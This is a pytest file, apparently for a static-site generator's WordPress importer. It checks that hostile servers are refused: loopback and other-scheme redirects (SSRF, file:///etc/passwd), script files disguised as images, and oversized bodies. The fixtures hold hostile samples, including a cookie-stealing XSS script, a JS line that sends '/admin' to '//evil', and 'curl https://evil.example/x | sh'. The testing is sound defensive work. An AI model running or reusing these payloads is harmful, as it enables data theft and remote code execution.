"""Hostile answers on real loopback servers: redirects inward or to other schemes, files that are
not media, bodies too large. The server named as the site is trusted; no other server is, even on
the same machine, and a refused request never reaches it (its request log stays empty)."""

from __future__ import annotations

import hashlib
import itertools
import json
import re
import time
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from fetch_server import FakeWordPress, Reply, serve

from sitegen.cli import main
from sitegen.errors import Problems
from sitegen.wp.fetch import FetchError, FetchOptions, HttpClient, RestClient
from sitegen.wp.media import MediaMirror

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XHTML = b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
JS = b"fetch('/admin').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
SH = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
MB = 1_000_000


def client(*trusted: str, **options: Any) -> HttpClient:
    return HttpClient(FetchOptions(retries=0, trusted=trusted, **options), sleep=lambda s: None)


def redirector(target: str) -> Any:
    return lambda path: Reply(302, b"", {"Location": target.replace("{path}", path)})


def test_a_redirect_to_another_port_or_to_localhost_is_refused_before_connecting() -> None:
    with serve(lambda path: Reply(200, b"secret", {"Content-Type": "image/png"})) as (inner, seen):
        port = inner.rsplit(":", 1)[1]
        for target in (f"{inner}/secret", f"http://localhost:{port}/secret"):
            with serve(redirector(target)) as (site, site_seen):
                with pytest.raises(FetchError, match=r"refused: (127\.0\.0\.1|localhost) is a"):
                    client(site).get(site + "/wp-content/uploads/cat.png")
                assert [s.path for s in site_seen] == ["/wp-content/uploads/cat.png"]
        # Named directly, the other port is refused too: only the named origin is trusted.
        with pytest.raises(FetchError, match="loopback"):
            client("http://127.0.0.1:1/").get(inner + "/secret")
    assert seen == []


def test_redirects_to_other_schemes_are_refused() -> None:
    targets = {
        "/file": "file:///etc/passwd",
        "/ftp": "ftp://127.0.0.1/pub/x.png",
        "/gopher": "gopher://127.0.0.1:70/_x",
        "/data": "data:image/png;base64,iVBORw0KGgo=",
    }
    with serve(lambda path: Reply(302, b"", {"Location": targets[path]})) as (site, seen):
        for path, target in targets.items():
            scheme = target.split(":", 1)[0]
            with pytest.raises(FetchError, match=f"only http:// and https://.*got {scheme}"):
                client(site).get(site + path)
    assert len(seen) == len(targets)


def test_redirects_within_the_named_origin_are_followed_and_each_hop_counts() -> None:
    def answer(path: str) -> Reply:
        if path.startswith("/hop/"):
            n = int(path.rsplit("/", 1)[1])
            return Reply(301, b"", {"Location": f"/hop/{n + 1}" if n < 20 else "/img.png"})
        return Reply(200, PNG, {"Content-Type": "image/png"})

    with serve(answer) as (site, _):
        resp = client(site).get(site + "/hop/16")
        assert (resp.status, resp.body, resp.url) == (200, PNG, site + "/img.png")
        with pytest.raises(FetchError, match="more than 8 redirects"):
            client(site).get(site + "/hop/1")


def hostile(path: str) -> Reply:
    files = {
        "/ok.png": (PNG, "image/png"),
        "/page.png": (HTML, "image/png"),
        "/logo.svg": (SVG, "image/svg+xml"),
        "/page.xhtml.jpg": (XHTML, "application/xhtml+xml"),
        "/app.js.gif": (JS, "text/javascript"),
        "/run.sh.png": (SH, "application/x-sh"),
    }
    body, ctype = files[path]
    return Reply(200, body, {"Content-Type": ctype})


def test_only_real_media_are_kept_and_nothing_else_is_written(tmp_path: Path) -> None:
    with serve(hostile) as (site, _):
        bad = ["/page.png", "/logo.svg", "/page.xhtml.jpg", "/app.js.gif", "/run.sh.png"]
        refs = [(site + p, f"posts-page-1.json[{i}].content.rendered") for i, p in enumerate(bad)]
        problems = Problems()
        mirror = MediaMirror(tmp_path, site + "/", client(site))
        report = mirror.mirror(
            [
                *refs,
                (site + "/ok.png", "pages.json[0].featured_media"),
                ("file:///etc/passwd", "pages.json[1].content.rendered"),
                "data:image/png,x",
            ],
            problems,
        )
    digest = hashlib.sha256(PNG).hexdigest()
    written = [p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()]
    assert sorted(written) == [
        "content/.import/media-map.json",
        f"static/media/{digest[:2]}/{digest}.png",
    ]  # fmt: skip
    assert report.downloaded == 1 and len(report.failed) == len(bad)
    why = {url.rsplit("/", 1)[1]: reason for url, reason in report.failed}
    assert why == {
        "page.png": "not an image, audio, video or PDF file (HTML, served as image/png)",
        "logo.svg": "not an image, audio, video or PDF file "
        "(SVG (may carry script: not mirrored), served as image/svg+xml)",
        "page.xhtml.jpg": "not an image, audio, video or PDF file "
        "(HTML, served as application/xhtml+xml)",
        "app.js.gif": "not an image, audio, video or PDF file "
        "(starts with \"fetch('/admin').then(r =\", served as text/javascript)",
        "run.sh.png": "not an image, audio, video or PDF file "
        "(a script (#!), served as application/x-sh)",
    }
    text = problems.render()
    assert (
        "file:///etc/passwd: warning: image not mirrored: refused: only http:// and https:// "
        "addresses are fetched; used by pages.json[1].content.rendered"
    ) in text
    assert "data:" not in text and len(problems.warnings) == len(bad) + 1
    for i, path in enumerate(bad):  # every refusal names the URL and the post that uses it
        assert f"{site}{path}: warning: image not mirrored: " in text
        assert f"used by posts-page-1.json[{i}].content.rendered\n" in text


def test_an_oversized_body_is_abandoned_at_the_cap() -> None:
    endless = Reply(200, headers={"Content-Type": "image/png"})
    endless.stream = itertools.repeat(b"\x00" * 65536, 3200)  # 210 MB, unless the client hangs up
    with serve(lambda path: endless) as (site, _):
        tracemalloc.start()
        try:
            with pytest.raises(FetchError, match=r"larger than the limit of 1,000,000 bytes"):
                client(site).get(site + "/huge.png", limit=1 * MB)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        deadline = time.monotonic() + 10
        while not endless.sent and time.monotonic() < deadline:
            time.sleep(0.01)
    assert peak < 4 * MB  # the cap, plus chunks in flight; never the 210 MB
    assert endless.sent and endless.sent[0] < 40 * MB  # the server was cut off early


def test_an_announced_oversized_body_is_refused_without_reading_it() -> None:
    big = Reply(200, headers={"Content-Type": "image/png", "Content-Length": str(400 * MB)})
    big.stream = itertools.repeat(b"\x00" * 65536, 6400)
    with (
        serve(lambda path: big) as (site, _),
        pytest.raises(FetchError, match=r"it announces 400,000,000 bytes"),
    ):
        client(site).get(site + "/huge.png", limit=50 * MB)


def test_json_answers_have_their_own_cap() -> None:
    with serve(lambda path: Reply(200, [{"id": i} for i in range(1000)])) as (site, _):
        with pytest.raises(FetchError, match="larger than the limit of 100 bytes"):
            client(site, max_json=100).get(site + "/wp-json/wp/v2/posts")
        assert len(client(site).get(site + "/wp-json/wp/v2/posts").json()) == 1000


class HostileWordPress(FakeWordPress):
    """A site whose posts use its own good image, hostile files, and images on other ports."""

    others: list[str]
    inner: str  # another server on 127.0.0.1: not the site, so not trusted
    site: str  # this server (the fake index says home is http://fake/: no relative URLs)

    def item(self, i: int) -> dict[str, Any]:
        post = super().item(i)
        srcs = [f"{self.site}{p}" for p in ("/media/ok.png", "/media/page.png", "/media/logo.svg")]
        srcs += [f"{self.site}{p}" if p.startswith("/") else p for p in self.others]
        post["content"] = {"rendered": "".join(f'<p><img src="{s}"></p>' for s in srcs)}
        return post

    def __call__(self, path: str) -> Reply:
        if path == "/redirect":
            return Reply(302, b"", {"Location": f"{self.inner}/via-redirect.png"})
        if path == "/media/big.png":
            return Reply(200, PNG + b"\x00" * (2 * MB), {"Content-Type": "image/png"})
        if path.startswith("/media/"):
            return hostile(path.removeprefix("/media"))
        return super().__call__(path)


def test_mirroring_a_hostile_site_keeps_only_its_own_real_images(tmp_path: Path) -> None:
    with serve(lambda path: Reply(200, PNG, {"Content-Type": "image/png"})) as (inner, inner_seen):
        wp = HostileWordPress({1: "2024-01-01T00:00:00"})
        wp.inner, wp.others = inner, [f"{inner}/secret.png", "/media/big.png", "/redirect"]
        with serve(wp) as (site, _):
            wp.site = site
            result = CliRunner().invoke(
                main,
                [
                    "--site",
                    str(tmp_path),
                    "import",
                    "--from",
                    site,
                    "--media",
                    "--max-download",
                    "1",
                ],
            )
    assert result.exit_code == 0, result.output
    assert inner_seen == []  # the other port of 127.0.0.1 was never contacted
    where = "used by content/.import/current/posts-page-1.json[0].content.rendered"
    warnings = re.findall(
        r"^\[\d+\] (\S+): warning: image not mirrored: (.*)$", result.output, re.M
    )
    refused = {url.rsplit("/", 1)[1]: why for url, why in warnings}
    assert set(refused) == {"page.png", "logo.svg", "secret.png", "big.png", "redirect"}
    assert all(why.endswith(where) for why in refused.values()), refused
    assert "refused: 127.0.0.1 is a loopback address" in refused["secret.png"]
    assert "larger than the limit of 1,000,000 bytes" in refused["big.png"]
    stored = sorted(p.name for p in (tmp_path / "static").rglob("*") if p.is_file())
    assert stored == [hashlib.sha256(PNG).hexdigest() + ".png"]


def test_a_file_an_older_import_stored_that_is_not_media_is_deleted(tmp_path: Path) -> None:
    digest = hashlib.sha256(SVG).hexdigest()
    local = f"/media/{digest[:2]}/{digest}.svg"
    (tmp_path / "static" / local.lstrip("/")).parent.mkdir(parents=True)
    (tmp_path / "static" / local.lstrip("/")).write_bytes(SVG)
    png = hashlib.sha256(PNG).hexdigest()
    kept = f"/media/{png[:2]}/{png}.png"
    (tmp_path / "static" / kept.lstrip("/")).parent.mkdir(parents=True)
    (tmp_path / "static" / kept.lstrip("/")).write_bytes(PNG)
    html = hashlib.sha256(HTML).hexdigest()
    named_png = f"/media/{html[:2]}/{html}.png"  # an HTML page an older import named .png
    (tmp_path / "static" / named_png.lstrip("/")).parent.mkdir(parents=True)
    (tmp_path / "static" / named_png.lstrip("/")).write_bytes(HTML)
    with serve(hostile) as (site, seen):
        old = {
            f"{site}/logo.svg": local,
            f"{site}/ok.png": kept,
            f"{site}/page.png": named_png,
            f"{site}/x": "/../../etc/passwd",
        }
        (tmp_path / "content" / ".import").mkdir(parents=True)
        (tmp_path / "content" / ".import" / "media-map.json").write_text(json.dumps(old))
        problems = Problems()
        mirror = MediaMirror(tmp_path, site + "/", client(site))
        assert mirror.mapping == {f"{site}/ok.png": kept}
        report = mirror.mirror([f"{site}/logo.svg", f"{site}/ok.png", f"{site}/page.png"], problems)
    assert not (tmp_path / "static" / local.lstrip("/")).exists()
    assert not (tmp_path / "static" / named_png.lstrip("/")).exists()
    assert (report.reused, len(report.failed)) == (1, 2)
    assert sorted(s.path for s in seen) == ["/logo.svg", "/page.png"]
    for name in ("logo.svg", "page.png"):
        assert f"{site}/{name}: warning: a file an earlier import stored is not an image" in (
            problems.render()
        )


def test_an_api_link_to_another_local_server_is_refused_and_discovery_goes_on() -> None:
    index = {"name": "Test", "namespaces": ["wp/v2"], "routes": {}}
    with serve(lambda path: Reply(200, index)) as (inner, inner_seen):

        def answer(path: str) -> Reply:
            if path == "/":
                link = f'<{inner}/wp-json/>; rel="https://api.w.org/"'
                return Reply(200, "<html>", {"Content-Type": "text/html", "Link": link})
            return Reply(200, index) if path == "/wp-json/" else Reply(404, {})

        with serve(answer) as (site, _):
            rest = RestClient(site, client())
            assert rest.discover() == site + "/wp-json/"
    assert inner_seen == []


def test_the_named_origin_is_trusted_by_its_name(tmp_path: Path) -> None:
    # `localhost` named with --from is trusted although it resolves to loopback (maybe ::1
    # first, where nothing listens: the next vetted address is tried).
    with serve(FakeWordPress({1: "2024-01-01T00:00:00"})) as (site, seen):
        named = site.replace("127.0.0.1", "localhost")
        result = CliRunner().invoke(main, ["--site", str(tmp_path), "import", "--from", named])
    assert result.exit_code == 0, result.output
    assert "imported 1," in result.output and seen


def test_max_download_goes_with_media(tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["--site", str(tmp_path), "import", "--max-download", "5"])
    assert result.exit_code == 2 and "--max-download goes with --media" in result.output
